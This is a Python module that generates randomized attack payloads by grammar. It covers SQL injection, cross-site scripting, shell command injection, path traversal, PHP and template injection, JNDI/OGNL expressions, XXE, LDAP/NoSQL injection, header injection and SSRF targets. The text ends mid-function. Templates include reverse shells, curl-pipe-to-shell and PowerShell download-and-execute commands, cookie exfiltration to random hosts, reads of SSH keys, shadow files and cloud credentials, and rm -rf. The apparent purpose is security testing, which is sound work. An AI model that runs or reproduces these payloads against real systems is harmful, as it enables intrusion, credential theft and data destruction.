"""Attack values of the classes that public lists are thin in, made by grammar.

Each function returns one value as an application would read it, before any encoding.
"""
import base64
import random
import string

R = random.Random(0)


def pick(*options):
    return R.choice(options)


def word(low=3, high=9):
    return "".join(R.choice(string.ascii_lowercase) for _ in range(R.randint(low, high)))


def host():
    return pick(f"{word()}.{pick('com', 'net', 'org', 'xyz', 'site', 'example')}", f"{R.randint(1, 223)}.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(1, 254)}",
                f"{word(10, 24)}.{pick('oast.fun', 'oastify.com', 'burpcollaborator.net', 'interact.sh')}")


def number():
    return str(pick(R.randint(0, 9), R.randint(10, 99), R.randint(100, 9999)))


def space():
    return pick(" ", " ", " ", " ", "\t", "\n", "  ")


def case(text):
    return pick(text, text, text, text.upper(), "".join(R.choice((c.upper(), c.lower())) for c in text))


# --- SQL

def sql_value():
    return pick(number(), f"'{word()}'", f'"{word()}"', "null", "@@version", "user()", "database()", f"char({R.randint(60, 120)})", f"0x{R.randrange(16**8):x}",
                "version()", "current_user", f"(select {word()} from {word()})")


def sql_open():
    return pick("", "", number(), word(), "-1", "1", "0", "admin") + pick("'", "'", '"', "')", "'))", '")', ")", "", " ", "';", "\\'", "%'")


def sql_close():
    return pick("-- ", "--", "-- -", "#", "/*", "--+", ";--", "", f" and '{word(1, 2)}'='{word(1, 2)}", " and '1'='1", " or '1", ";#", "\x00", "`")


def sql_condition():
    a = number()
    s = word(1, 3)
    return pick(f"{a}={a}", f"'{s}'='{s}'", f'"{s}"="{s}"', f"{a}<{int(a) + 1}", f"{a} like {a}", "true", f"'{s}' like '{s}'", f"{a} between 0 and 99999", "1", f"not {a}={int(a) + 1}",
                f"ascii(substring((select {pick('password', 'table_name', 'version()', 'user()')}),{number()},1))>{number()}", f"exists(select * from {word()})",
                f"length(database())>{number()}", f"(select count(*) from {pick('information_schema.tables', 'sysobjects', 'all_users', word())})>{number()}",
                f"substr(version(),1,1)={number()}", f"{a} rlike {a}", f"{a} in ({a})", f"{a} is not null", f"ord(mid(user(),1,1))={number()}", f"'{s}' regexp '^{s}'")


def sql_boolean():
    return f"{sql_open()}{space()}{case(pick('or', 'and', '||', '&&', 'xor', 'or not'))}{space()}{sql_condition()}{sql_close()}"


def sql_union():
    columns = ",".join(sql_value() for _ in range(R.randint(1, 8)))
    source = pick("", "", f" from {pick('information_schema.tables', 'users', 'mysql.user', 'sqlite_master', 'dual', 'pg_user', word())}", f" from users where id={number()}")
    return f"{sql_open()}{space()}{case('union')}{space()}{case(pick('select', 'all select', 'distinct select'))}{space()}{columns}{case(source)}{sql_close()}"


def sql_stacked():
    body = pick(f"drop table {word()}", f"insert into {word()} values({sql_value()},{sql_value()})", f"update {word()} set {word()}={sql_value()}", f"delete from {word()}",
                "exec xp_cmdshell('{}')".format(pick("dir", "whoami", f"ping {host()}")), f"exec master..xp_cmdshell '{word()}'", "shutdown", f"waitfor delay '0:0:{number()}'",
                f"declare @{word(1, 2)} varchar(99);set @{word(1, 2)}={sql_value()};exec(@{word(1, 2)})", f"create user {word()} identified by '{word()}'",
                f"copy {word()} from program '{word()}'", f"select pg_sleep({number()})", f"exec sp_configure 'show advanced options',1", f"backup database {word()} to disk='\\\\{host()}\\x'")
    return f"{sql_open()};{space()}{case(body)}{sql_close()}"


def sql_time():
    n = number()
    body = pick(f"sleep({n})", f"(select sleep({n}))", f"benchmark({n}000000,md5({n}))", f"pg_sleep({n})", f"if({sql_condition()},sleep({n}),0)", f"case when {sql_condition()} then pg_sleep({n}) else null end",
                f"dbms_pipe.receive_message('{word(1, 3)}',{n})", f"(select * from (select(sleep({n}))){word(2, 4)})", f"randomblob({n}00000000)", f"waitfor delay '0:0:{n}'", f"utl_inaddr.get_host_address('{host()}')")
    return f"{sql_open()}{space()}{case(pick('and', 'or', '||', '-', '+', 'xor', ''))}{space()}{body}{sql_close()}"


def sql_error():
    inner = pick("select version()", "select user()", "select database()", f"select {word()} from {word()} limit 1", "select @@version")
    body = pick(f"extractvalue({number()},concat(0x7e,({inner}),0x7e))", f"updatexml({number()},concat(0x7e,({inner})),{number()})",
                f"(select 1 from (select count(*),concat(({inner}),floor(rand(0)*2))x from information_schema.tables group by x)a)", f"convert(int,({inner}))", f"cast(({inner}) as int)",
                f"exp(~(select * from ({inner})a))", f"ctxsys.drithsx.sn(1,({inner}))", f"gtid_subset(({inner}),1)", f"1/({inner})", f"xmltype('<'||({inner})||'>')")
    return f"{sql_open()}{space()}{case(pick('and', 'or', '||', 'procedure analyse('))}{space()}{body}{sql_close()}"


def sql_order():
    return f"{sql_open()}{space()}{case(pick('order by', 'group by', 'having', 'limit', 'into outfile', 'into dumpfile'))}{space()}{pick(number(), sql_condition(), repr('/var/www/' + word() + '.php'))}{sql_close()}"


def sql():
    return pick(sql_boolean, sql_boolean, sql_union, sql_union, sql_stacked, sql_time, sql_error, sql_order)()


# --- script

EVENTS = ("onerror onload onclick onmouseover onfocus onblur onchange oninput ontoggle onstart onanimationstart onpointerover onmouseenter onwheel onbegin onkeydown onpageshow "
          "onhashchange onresize onscroll ontransitionend oncut oncopy onpaste onauxclick ondblclick ondrag onsubmit onbeforescriptexecute onfinish onplaying onloadstart oncanplay onpopstate").split()
TAGS = "script img svg iframe body input object embed video audio details marquee math a div style form button select textarea keygen isindex x xss link meta base image table p h1 animate set".split()


def js():
    a = pick("1", "document.cookie", "document.domain", "'xss'", "`1`", "/xss/", number(), "origin", "self", "localStorage.token", '"x"')
    call = pick("alert", "alert", "prompt", "confirm", "eval", "print", "console.log", "fetch", "top.alert", "window['alert']", "self['al'+'ert']", "parent.alert", "document.write", "setTimeout", "(alert)", "alert.call", "window.alert")
    return pick(f"{call}({a})", f"{call}`{number()}`", f"document.location='http://{host()}/?c='+document.cookie", f"new Image().src='//{host()}/'+document.cookie",
                f"fetch('//{host()}',{{method:'post',body:document.cookie}})", f"eval(atob('{base64.b64encode(word().encode()).decode()}'))", f"eval(String.fromCharCode({','.join(str(R.randint(60, 122)) for _ in range(6))}))",
                f"[].constructor.constructor('alert({number()})')()", f"Function('{call}({a})')()", f"import('//{host()}/x.js')", f"window.onerror={call};throw {number()}", f"location=name", f"setTimeout('{call}({a})',{number()})",
                f"$.getScript('//{host()}')", f"top[/al/.source+/ert/.source]({number()})", f"document.body.innerHTML='<h1>{word()}</h1>'", f"[{number()}].find({call})", f"location.href='//{host()}'", f"with(document)alert(cookie)")


def attribute():
    q = pick('"', "'", "", "`")
    gap = pick(" ", "/", "\n", "\t", "/**/", "  ", "\x0c")
    return f"{gap}{case(R.choice(EVENTS))}{pick('', ' ', chr(9))}={q}{js()}{q}"


def xss_tag():
    tag = case(R.choice(TAGS))
    middle = pick("", f" src={pick('x', '1', 'data:,', '//' + host())}", f" href={pick('javascript:', 'x')}", " autofocus", " open", f" style={word()}", " contenteditable", " tabindex=1", " controls", " id=x")
    end = pick(">", ">", "/>", "", f">{word()}</{tag}>", "//")
    return f"{pick('', '', word(), chr(34) + '>', chr(39) + '>', '-->', '</title>', '</script>', '</textarea>')}<{tag}{middle}{attribute()}{end}"


def xss_script():
    tag = case("script")
    body = pick(js(), js(), f"/*{word()}*/{js()}")
    return f"{pick('', '', chr(34) + '>', chr(39) + '>', '</script>', '>', '-->', '<!--', '</style>')}<{tag}{pick('', '', ' ', chr(10), ' src=//' + host() + '/x.js', ' type=text/javascript', '/x')}>{body}</{tag}{pick('>', '', ' >')}"


def xss_attribute():
    return f"{pick(word(), '', number())}{pick(chr(34), chr(39), chr(34) + ' ', chr(39) + ' ')}{attribute()} {pick('', word() + '=' + chr(34), 'autofocus', 'x=' + chr(39))}"


def xss_code():
    q = pick("'", '"', "`", "")
    return f"{pick('', word(), number())}{q}{pick(';', '-', '+', ')', '});', '},', '||', '&&', '^')}{js()}{pick('//', ';//', '-' + q, '+' + q, '', ';' + q, '<!--', '/*')}"


def xss_link():
    scheme = pick("javascript:", "JaVaScRiPt:", "java\tscript:", "javascript&colon;", "vbscript:", "data:text/html,", "data:text/html;base64,", " javascript:", "javascript://%0a", "jAvAsCrIpT&#58;", "\x01javascript:")
    body = base64.b64encode(f"<script>{js()}</script>".encode()).decode() if "base64" in scheme else (f"<script>{js()}</script>" if "html" in scheme else js())
    return pick(f"{scheme}{body}", f'<a href="{scheme}{body}">{word()}</a>', f"<iframe src={scheme}{body}>", f"[{word()}]({scheme}{body})", f"<form action={scheme}{body}><input type=submit>", f"<object data={scheme}{body}>",
                f"<svg><a xlink:href={scheme}{body}><text>x</text></a>", f"<math href={scheme}{body}>x")


def xss_style():
    return pick(f"<style>@import'{host()}'</style>", f"<div style=\"width:expression({js()})\">", f"<div style=\"background:url(javascript:{js()})\">", f"<link rel=stylesheet href=//{host()}/x.css>",
                f"<meta http-equiv=refresh content=\"0;url=javascript:{js()}\">", f"<base href=//{host()}/>", f"<svg><script>{js()}</script></svg>", f"<svg><animate onbegin={js()} attributeName=x>", f"<x style=\"behavior:url(#default#time2)\" onbegin={js()}>",
                f"<noscript><p title=\"</noscript><img src=x onerror={js()}>\">", f"<iframe srcdoc=\"<script>{js()}</script>\">", f"<template><script>{js()}</script></template>", f"<xml id=x><a><b>&lt;script&gt;{js()}&lt;/script&gt;</b></a></xml>")


def angular():
    return pick(f"{{{{constructor.constructor('{js()}')()}}}}", f"{{{{$on.constructor('{js()}')()}}}}", f"{{{{a='constructor';b={{}};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'{js()}')()}}}}",
                f"{{{{x = {{'y':''.constructor.prototype}}; x['y'].charAt=[].join;$eval('x={js()}');}}}}", f"<div ng-app ng-csp><input ng-focus=$event.view.{js()}>", f"<div v-html=\"'<img src onerror={js()}>'\">")


def xss():
    return pick(xss_tag, xss_tag, xss_script, xss_attribute, xss_code, xss_code, xss_link, xss_style, angular)()


# --- commands

FILES = "/etc/passwd /etc/shadow /etc/hosts /etc/group /etc/issue /proc/self/environ /proc/version /proc/self/cmdline ~/.ssh/id_rsa /root/.bash_history /var/log/auth.log /etc/nginx/nginx.conf /etc/apache2/apache2.conf".split()


def unix_command():
    return pick(f"cat {R.choice(FILES)}", "id", "whoami", "uname -a", "ls -la", "ls /", "pwd", "ps aux", "netstat -an", "ifconfig", "env", "w", f"ping -c {number()} {host()}", f"wget http://{host()}/{word()}", f"curl http://{host()}/{word()}|sh",
                f"nslookup {host()}", f"sleep {number()}", f"nc -e /bin/sh {host()} {R.randint(1000, 65000)}", f"bash -i >& /dev/tcp/{host()}/{R.randint(1000, 65000)} 0>&1", f"echo {word()}", f"touch /tmp/{word()}",
                f"rm -rf {pick('/', '/tmp/x', '*')}", f"python -c 'import os;os.system(\"{word()}\")'", f"perl -e 'print {number()}'", f"php -r 'phpinfo();'", f"tail -n 5 {R.choice(FILES)}", f"head {R.choice(FILES)}", f"tac {R.choice(FILES)}", f"grep root {R.choice(FILES)}",
                f"/bin/cat {R.choice(FILES)}", "/usr/bin/id", f"/???/c?t {pick('/???/p?ss??', '/etc/p*d')}", f"dig {host()}", f"host {host()}", "set", "printenv", f"cat<{R.choice(FILES)}", f"base64 {R.choice(FILES)}", f"chmod 777 {word()}", f"expr {number()} + {number()}",
                f"curl -d @{R.choice(FILES)} {host()}", f"mknod {word()} p", f"bash -c '{word()}'", f"sh -c id", f"ruby -rsocket -e 'exit'", f"crontab -l", f"which {pick('python', 'curl', 'nc')}", f"find / -name {word()}", f"awk 'BEGIN{{system(\"id\")}}'")


def windows_command():
    return pick("dir", "dir c:\\", "type c:\\windows\\win.ini", "ipconfig /all", "net user", f"net user {word()} {word()} /add", "systeminfo", "tasklist", "ver", "whoami /all", f"ping -n {number()} {host()}", f"cmd /c {word()}", "cmd.exe /c dir",
                f"powershell -nop -c \"iex(new-object net.webclient).downloadstring('http://{host()}/{word()}')\"", f"powershell -enc {base64.b64encode(word(12, 30).encode()).decode()}", f"certutil -urlcache -f http://{host()}/x.exe x.exe", f"bitsadmin /transfer x http://{host()}/x.exe c:\\x.exe",
                f"mshta http://{host()}/x.hta", f"regsvr32 /s /u /i:http://{host()}/x.sct scrobj.dll", f"start calc.exe", f"timeout {number()}", f"type %systemroot%\\win.ini", "set", "hostname", f"wmic process call create calc", f"nslookup {host()}")


def unix_spaced(command):
    gap = pick(" ", " ", " ", "${IFS}", "$IFS", "<", "\t", "%09", "${IFS}$9")
    return command.replace(" ", gap)


def shell():
    command = pick(unix_command, unix_command, windows_command)()
    command = unix_spaced(command)
    joiner = pick(";", ";", "|", "||", "&&", "&", "\n", "%0a", "\r\n", "; ", " | ", " && ")
    return pick(f"{pick(word(), host(), number(), '')}{joiner}{command}", f"{pick('', word())}{joiner}{command}{pick(';', '#', '|', '&', ' #', chr(10))}", f"$({command})", f"`{command}`", f"{word()}$({command})", f"{pick('', word())}'{joiner}{command}{joiner}'",
                f'{pick("", word())}"{joiner}{command}{joiner}"', f"{word()}`{command}`", f"{{{command.replace(' ', ',')}}}", f"{command}", f"() {{ :;}}; {command}", f"() {{ :; }}; echo; /bin/bash -c \"{command}\"", f"() {{ _; }} >_[$($())] {{ {command}; }}",
                f"<!--#exec cmd=\"{command}\" -->", f"<!--#include virtual=\"{R.choice(FILES)}\" -->", f"<!--#exec cgi=\"/cgi-bin/{word()}\"-->", f"<!--#printenv -->", f"<!--#echo var=\"DOCUMENT_URI\" -->", f"%0a{command}%0a", f"|{command}", f"a;{command};", f"-oProxyCommand={command}", f"--exec={command}", f"${{@system({command})}}")


# --- files

def traversal():
    up = pick("../", "..\\", "..../", "....//", "..;/", ".../", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "..%c0%af", "..%252f", "..//", ".\\..\\", "..%u2215", "%c0%ae%c0%ae/", "./../", "..\\/", "/..", "\\..", "..%00/", "..\x5c")
    target = pick("etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "windows\\win.ini", "boot.ini", "winnt/system32/cmd.exe?/c+dir", "WEB-INF/web.xml", "proc/self/environ", "var/log/apache2/access.log", "wp-config.php", "config.php", ".env", ".git/config", "web.config",
                  f"home/{word()}/.ssh/id_rsa", "root/.bashrc", f"{word()}/{word()}.conf", "windows/system32/drivers/etc/hosts", "inetpub/logs/LogFiles", f"{word()}.{pick('txt', 'log', 'php', 'ini', 'xml')}", "etc/mysql/my.cnf", "usr/local/apache/conf/httpd.conf")
    return f"{pick('', '', '/', word() + '/', 'file=', '/static/', 'images/', '/')}{up * R.randint(1, 9)}{target}{pick('', '', '', '%00', chr(0), '%00.jpg', '?', '#', '.jpg', '%2500', ';.png')}"


def absolute():
    return pick(f"file://{R.choice(FILES)}", R.choice(FILES), "c:\\windows\\win.ini", "c:/boot.ini", f"\\\\{host()}\\share\\{word()}", "C:\\inetpub\\wwwroot\\web.config", "/var/www/html/wp-config.php", f"/proc/{number()}/fd/{number()}", f"/proc/self/fd/{number()}", "/WEB-INF/web.xml", "/.git/HEAD", "/.env", "/.aws/credentials", "/.htpasswd",
                f"/etc/passwd%00", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", f"file:///c:/windows/win.ini", "/.svn/entries", "/server-status", "/.ssh/id_rsa", f"/{word()}.php.bak", f"/backup.sql", "/phpinfo.php", "/actuator/env", "/wp-config.php~", "/.DS_Store")


def include():
    return pick(f"php://filter/convert.base64-encode/resource={word()}.php", f"php://filter/read=string.rot13/resource={word()}", "php://input", f"data://text/plain;base64,{base64.b64encode(b'<?php system($_GET[0]);?>').decode()}", f"data:text/plain,<?php {php()} ?>", f"expect://{pick('id', 'ls', 'whoami')}",
                f"zip://{word()}.zip#{word()}", f"phar://{word()}.phar/{word()}.php", f"http://{host()}/{word()}.txt?", f"ftp://{host()}/{word()}.php", f"//{host()}/{word()}.txt%00", "glob:///*", f"compress.zlib://{word()}.gz", f"ogg://{word()}", f"https://{host()}/c99.txt?cmd=id", f"jar:http://{host()}!/{word()}")


def php():
    c = pick("id", "ls", "whoami", f"cat {R.choice(FILES)}")
    return pick("phpinfo();", f"system('{c}');", f"echo shell_exec('{c}');", "eval($_POST[cmd]);", f"passthru('{c}');", f"echo `{c}`;", "die(md5(1));", f"print({number()}*{number()});", f"file_put_contents('{word()}.php','<?php eval($_GET[1]);');", f"assert($_REQUEST['{word(1, 2)}']);", f"include('http://{host()}');", f"exec('{c}');", f"${{print(md5({number()}))}}",
                f"fwrite(fopen('{word()}.php','w'),'{word()}');", f"@eval(base64_decode('{base64.b64encode(word().encode()).decode()}'));", f"call_user_func('system','{c}');", f"readfile('{R.choice(FILES)}');", f"highlight_file(__FILE__);", f"var_dump(scandir('/'));", f"preg_replace('/x/e','{c}','x');", f"array_map('assert',array('{c}'));")


def php_code():
    return pick(f"<?php {php()} ?>", f"<?={php()}?>", f"{word()};{php()}", f"';{php()}//", f"{{${{{php()}}}}}", f"${{@{php()}}}", f"<script language=\"php\">{php()}</script>", f'".{php()}."', f"O:{R.randint(1, 20)}:\"{word()}\":{R.randint(1, 4)}:{{s:{R.randint(1, 9)}:\"{word()}\";s:{R.randint(1, 9)}:\"{word()}\";}}",
                f"a:1:{{i:0;O:{R.randint(4, 20)}:\"{word().title()}\":0:{{}}}}", f"C:11:\"ArrayObject\":37:{{x:i:0;}}", f"-d allow_url_include=1 -d auto_prepend_file=php://input", f"_POST[{word()}]={php()}", f"GLOBALS[{word()}]={number()}", f"<%= {php()} %>", f"%3C%3Fphp {php()}%3F%3E")


# --- Java and look-ups

def jndi():
    scheme = pick("ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba", "nds", "http")
    def spell(text):
        return "".join(pick(c, c, f"${{lower:{c}}}", f"${{upper:{c}}}", f"${{::-{c}}}", f"${{env:{word(2, 4)}:-{c}}}", f"${{{word(1, 3)}:{word(1, 3)}:-{c}}}", f"${{date:'{c}'}}") for c in text)
    name = pick("jndi", "jndi", spell("jndi"), spell("jndi"), "${lower:jndi}", "${lower:j}ndi", "j${k8s:k5:-ND}i")
    kind = pick(scheme, scheme, spell(scheme))
    return pick("", "", "", word() + " ") + "${" + f"{name}:{kind}:{pick('//', '//', '/', '${::-/}/')}{pick('', '${hostName}.', '${env:AWS_SECRET_ACCESS_KEY}.', '${sys:java.version}.', '127.0.0.1#')}{host()}{pick('', ':' + str(R.randint(80, 65000)))}/{pick('a', word(), 'Basic/Command/Base64/' + base64.b64encode(word().encode()).decode(), 'exploit')}" + "}"


def expression():
    c = pick("id", "whoami", f"ping {host()}", "calc", f"curl {host()}")
    return pick(f"${{T(java.lang.Runtime).getRuntime().exec('{c}')}}", f"#{{T(java.lang.Runtime).getRuntime().exec('{c}')}}", f"%{{(#a=@java.lang.Runtime@getRuntime().exec('{c}'))}}",
                f"%{{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='{c}').(#p=new java.lang.ProcessBuilder(#cmd))}}",
                f"${{(#a=new java.lang.ProcessBuilder('{c}')).start()}}", f"new java.lang.ProcessBuilder(new String[]{{'{c}'}}).start()", f"java.lang.Runtime.getRuntime().exec('{c}')", f"class.module.classLoader.resources.context.parent.pipeline.first.pattern={word()}",
                f"redirect:${{#a=new java.lang.ProcessBuilder(new java.lang.String[]{{'{c}'}})}}", f"${{script:javascript:java.lang.Runtime.getRuntime().exec('{c}')}}", f"${{url:UTF-8:http://{host()}}}", f"${{dns:address|{host()}}}",
                f"{{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://{host()}/x\",\"autoCommit\":true}}", f"rO0AB{base64.b64encode(R.randbytes(30)).decode()}", f"${{{R.randint(100, 999)}*{R.randint(100, 999)}}}",
                f"''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(null,'{c}')", f"${{''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('{word()}')}}", f"#{{'{word()}'.toUpperCase()}}", f"T(java.lang.System).getenv()", f"*{{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('{c}').getInputStream())}}")


def template():
    c = pick("id", "ls", "whoami", f"cat {R.choice(FILES)}")
    a, b = R.randint(2, 9999), R.randint(2, 9999)
    return pick(f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"<%= {a}*{b} %>", f"#{{{a}*{b}}}", f"{{{a}*{b}}}", f"{{{{{a}*'{b}'}}}}", f"@({a}+{b})", f"[[${{{a}*{b}}}]]", f"{{{{config}}}}", "{{config.items()}}", "{{self}}", "{{ request.application.__globals__.__builtins__.__import__('os').popen('%s').read() }}" % c,
                "{{''.__class__.__mro__[%d].__subclasses__()}}" % R.randint(1, 3), "{{''.__class__.__base__.__subclasses__()[%d]('%s',shell=True,stdout=-1).communicate()}}" % (R.randint(40, 500), c), "{{cycler.__init__.__globals__.os.popen('%s').read()}}" % c, "{{lipsum.__globals__['os'].popen('%s').read()}}" % c,
                "{%% for x in ().__class__.__base__.__subclasses__() %%}{%% if 'warning' in x.__name__ %%}{{x()._module.__builtins__['__import__']('os').popen('%s').read()}}{%%endif%%}{%%endfor%%}" % c, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"%s\")}" % c, "${\"freemarker.template.utility.Execute\"?new()(\"%s\")}" % c,
                "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"%s\")" % c, "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('%s')}}" % c, "{{['%s']|filter('system')}}" % c, "{{['%s',0]|sort('passthru')|join}}" % c, "{php}echo `%s`;{/php}" % c, "{system('%s')}" % c, "{if phpinfo()}{/if}",
                "<%%= system('%s') %%>" % c, "<%%= `%s` %%>" % c, "<%%= File.open('/etc/passwd').read %%>", "${self.module.cache.util.os.system('%s')}" % c, "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('%s')\")()}}" % c, "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('%s')}()}" % c,
                "{{#with \"s\" as |string|}}{{#with split as |conslist|}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}{{/with}}", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}", "{%% import os %%}{{os.system('%s')}}" % c, "{{dump(app)}}", "{{app.request.server.all|join(',')}}", "{{constructor.constructor('return this.process.env')()}}", "@{var x=System.Diagnostics.Process.Start(\"%s\");}" % c, "$class.inspect('java.lang.Runtime').type.getRuntime().exec('%s')" % c,
                "{%% include '%s' %%}" % R.choice(FILES), "{% debug %}", "{{settings.SECRET_KEY}}", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('%s')}" % c, "th:text=\"${T(java.lang.Runtime).getRuntime().exec('%s')}\"" % c, "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('%s').getInputStream()).next()}__::.x" % c)


# --- documents and protocols

def xml():
    e = word(1, 4)
    target = pick(f"file://{R.choice(FILES)}", f"http://{host()}/{word()}", "file:///c:/windows/win.ini", f"php://filter/read=convert.base64-encode/resource={word()}", f"ftp://{host()}/", "expect://id", f"jar:http://{host()}/x!/y", f"gopher://{host()}", f"http://169.254.169.254/latest/meta-data/")
    head = pick("<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>", "<?xml version='1.0' standalone='no'?>", "")
    return pick(f"{head}<!DOCTYPE {word()} [<!ENTITY {e} SYSTEM \"{target}\">]><{word()}>&{e};</{word()}>", f"{head}<!DOCTYPE {word()} [<!ELEMENT {word()} ANY><!ENTITY {e} SYSTEM '{target}'>]><{word()}>&{e};</{word()}>", f"{head}<!DOCTYPE {word()} [<!ENTITY % {e} SYSTEM \"{target}\">%{e};]>", f"{head}<!DOCTYPE {word()} SYSTEM \"{target}\">", f"{head}<!DOCTYPE {word()} PUBLIC \"-//{word()}//\" \"{target}\">",
                f"{head}<!DOCTYPE lolz [<!ENTITY {e} \"lol\"><!ENTITY {e}2 \"{('&' + e + ';') * 8}\">]><lolz>&{e}2;</lolz>", f"<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"{target}\"/>", f"<!ENTITY % {e} \"<!ENTITY &#37; x SYSTEM '{target}?%{word()};'>\">", f"<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
                f"<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\"><xsl:template match=\"/\"><xsl:value-of select=\"php:function('system','id')\"/></xsl:template></xsl:stylesheet>", f"<?xml-stylesheet type=\"text/xsl\" href=\"{target}\"?>", f"<![CDATA[<script>{js()}</script>]]>", f"<svg xmlns=\"http://www.w3.org/2000/svg\"><image xlink:href=\"{target}\"/></svg>",
                f"<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM \"{target}\"> %dtd;]><xxx/>]]></foo></soap:Body>", f"<{word()}>{word()}</{word()}><!-- --><{word()}>{number()}' or '1'='1</{word()}>", f"]]><{word()}>{word()}</{word()}><![CDATA[")


def ldap():
    a = pick("uid", "cn", "objectClass", "userPassword", "mail", "sn", "sAMAccountName", "memberOf", word())
    return pick(f"*)({a}=*", f"*)({a}=*))(|({a}=*", f"{word()})(&", f"*)(|({a}=*))", f"{word()}*)(({a}=*)", f"*))%00", f"admin*)((|userPassword=*)", f"({a}=*)", f"(&({a}={word()})({a}=*))", f"*()|%26'", f"{word()})(|(password=*)", f"x' or name()='username' or 'x'='y", f"*)({a}={word()}*)", f"(|({a}=*)({a}=*))", f")({a}=)(|(cn={word()}", f"!(()&&!|*|*|", f"admin)(!(&(1=0)", f"*/*", f"{word()})({a}=*))(&({a}={word()}",
                f"' or '1'='1", f"' or count(/*)=1 or ''='", f"'] | //* | //*['", f"' or string-length(name(/*[1]))={number()} or 'a'='b", f"x']|//user/*|a['x", f"' and substring(//user[{number()}]/password,1,1)='a", f"count(/child::node())", f"doc('http://{host()}')")


def nosql():
    o = pick("$ne", "$gt", "$gte", "$regex", "$where", "$exists", "$nin", "$in", "$not", "$or", "$lt", "$expr", "$type")
    v = pick("null", "''", "1", "true", f"'{word()}'", "'.*'", "'^a'", "[]", "{}")
    return pick(f"{{\"{o}\":{v.replace(chr(39), chr(34))}}}", f"{{\"{word()}\":{{\"{o}\":{v.replace(chr(39), chr(34))}}}}}", f"{{{o}: {v}}}", f"[{o}]={v}", f"{word()}[{o}]={word()}", f"'; return true; var x='", f"' || 1==1//", f"' || '1'=='1", f"'; sleep({number()}000); var x='", f"1;sleep({number()})", f"';while(true){{}}//", f"$where: '1 == 1'", f"{{$where:'return true'}}", f"|| 1==1", f"' && this.password.match(/.*/)//+%00", f"this.{word()} == '{word()}'", f"db.{word()}.find({{}})", f"db.{word()}.drop()",
                f"{{\"$where\":\"sleep({number()}000)\"}}", f"true, $where: '1 == 1'", f", $where: '1 == 1'", f"a'; return this.a != '{word()}'; var dummy='!", f"function(){{return true}}", f"{{\"$func\":\"var_dump\"}}", f"{{\"username\":{{\"{o}\":\"\"}},\"password\":{{\"{o}\":\"\"}}}}", f"1'; tojson(this); var x='1", f"\\x27; db.{word()}.insert({{}})")


def header():
    crlf = pick("\r\n", "\n", "%0d%0a", "%0a", "%0D%0A", "\r", "%E5%98%8A%E5%98%8D", "\\r\\n", "%250d%250a")
    return pick(f"{word()}{crlf}Set-Cookie: {word()}={word()}", f"{word()}{crlf}Location: http://{host()}", f"{crlf}Content-Length: 0{crlf}{crlf}HTTP/1.1 200 OK{crlf}Content-Type: text/html{crlf}{crlf}<html>{word()}</html>", f"{crlf}X-{word().title()}: {word()}", f"/{word()}{crlf}{crlf}<script>{js()}</script>", f"http://{host()}{crlf}Host: {host()}", f"{word()}@{host()}{crlf}Bcc: {word()}@{host()}", f"{word()}@{host()}%0ACc:{word()}@{host()}%0ABcc:{word()}@{host()}", f"{crlf}.{crlf}DATA{crlf}To: {word()}@{host()}",
                f"{word()}{crlf}RCPT TO:<{word()}@{host()}>", f"{crlf}QUIT{crlf}", f"\"{crlf}V100 CAPABILITY{crlf}V101 FETCH {number()}", f"{number()}{crlf}GET / HTTP/1.1{crlf}Host: {host()}{crlf}{crlf}", f"Transfer-Encoding: chunked{crlf}{crlf}0{crlf}{crlf}GET /{word()} HTTP/1.1", f"{crlf}Refresh: 0;url=http://{host()}", f"foo{crlf}Content-Type: text/html", f"subject{crlf}MIME-Version: 1.0{crlf}Content-Type: multipart/mixed; boundary={word()}", f"{word()}\\nbcc:{word()}@{host()}")


def inside():
    place = pick("127.0.0.1", "localhost", "169.254.169.254", "[::1]", "0.0.0.0", "0x7f000001", "2130706433", "127.1", "0177.0.0.1", "metadata.google.internal", "10.0.0.1", "192.168.0.1", "127.0.0.1.nip.io", "[::ffff:127.0.0.1]", "100.100.100.200", "localtest.me", "172.17.0.1", "017700000001", "①②⑦.⓪.⓪.①")
    tail = pick("", ":22", ":6379", ":8080/admin", "/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/computeMetadata/v1/", "/server-status", ":9200/_cat/indices", ":2375/containers/json", "/admin", ":80", ":25", ":11211", "/opc/v1/instance/")
